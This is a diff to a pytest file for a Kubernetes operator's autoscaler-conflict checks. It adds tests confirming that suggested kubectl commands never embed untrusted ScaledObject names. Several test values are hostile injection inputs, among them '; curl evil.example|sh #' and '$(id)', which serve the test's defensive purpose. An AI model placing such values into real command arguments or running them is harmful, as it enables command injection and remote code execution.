@@ -17,6 +17,7 @@ BOTH = (
     "the demand. Keep one of them: `kubectl delete {1} -n team` and then `ome scale svc -n team --resume`, or write "
     "External into spec.decoder.autoscaler.class"
 )
+KEDA = {"apiVersion": "keda.sh/v1alpha1", "kind": "ScaledObject", "name": "load", "controller": True}
 DEPLOYMENT = {"kind": "Deployment", "metadata": {"name": "svc-router-1"}}
 
 
@@ -39,7 +40,7 @@ def test_an_autoscaler_without_a_target_scales_nothing(broken: dict[str, Any]) -
             body(
                 {"kind": "RoleScale", "name": "svc-decoder"},
                 "keda-hpa-load",
-                ownerReferences=[{"kind": "ScaledObject", "name": "load", "controller": True}],
+                ownerReferences=[KEDA],
             ),
             BOTH.format("ScaledObject load", "scaledobject load"),
         ),
@@ -58,6 +59,28 @@ def test_an_autoscaler_without_a_target_scales_nothing(broken: dict[str, Any]) -
 def test_each_second_autoscaler_is_named_with_a_command(one: dict[str, Any], says: str) -> None:
     found = [*second_autoscalers([autoscaler(one)], {"svc-decoder": "decoder"}, [DEPLOYMENT], "svc", "team")]
     assert found == ([says] if says else [])
+
+
+@pytest.mark.parametrize(
+    "owner",
+    [
+        {**KEDA, "name": "load -n prod; curl evil.example|sh #"},
+        {**KEDA, "name": "load\n"},
+        {**KEDA, "name": "$(id)"},
+        {**KEDA, "name": "a" * 254},
+        {**KEDA, "name": ""},
+        {**KEDA, "apiVersion": "keda.sh.example.org/v1"},
+        {**KEDA, "apiVersion": "example.org/keda.sh"},
+        {**KEDA, "apiVersion": None},
+        {**KEDA, "kind": "Deployment"},
+        {**KEDA, "controller": False},
+        {name: value for name, value in KEDA.items() if name != "controller"},
+    ],
+)
+def test_a_command_names_a_scaled_object_only_as_keda_writes_it(owner: dict[str, Any]) -> None:
+    one = autoscaler(body({"kind": "RoleScale", "name": "svc-decoder"}, ownerReferences=[owner]))
+    found = [*second_autoscalers([one], {"svc-decoder": "decoder"}, [DEPLOYMENT], "svc", "team")]
+    assert found == [BOTH.format("HorizontalPodAutoscaler mine", "hpa mine")]
 
 
 def watched(world: Demanded, *found: ForeignAutoscaler) -> tuple[str, str]:
@@ -99,6 +122,15 @@ def test_an_autoscaler_of_a_workload_is_found_by_the_name_of_the_workload() -> N
         assert (
             f"mine scales {kind} {name}, whose number of pods" in watched(world, ForeignAutoscaler("mine", (kind, name)))[0]
         )
+
+
+def test_the_autoscalers_that_another_service_has_read_are_no_advice_without_the_class_demand() -> None:
+    world = Demanded(**spec("Apply"))
+    name = next(name for kind, name in world.children if kind == "Deployment")
+    mine = ForeignAutoscaler("mine", ("Deployment", name))
+    assert "mine scales" in watched(world, mine)[0]
+    world.edited(**spec("Apply", role={"autoscaler": {"class": "External"}}))
+    assert ("Deployment", name) in world.children and "mine scales" not in watched(world, mine)[0]
 
 
 def test_the_writer_of_a_number_is_the_last_manager_of_the_field() -> None:
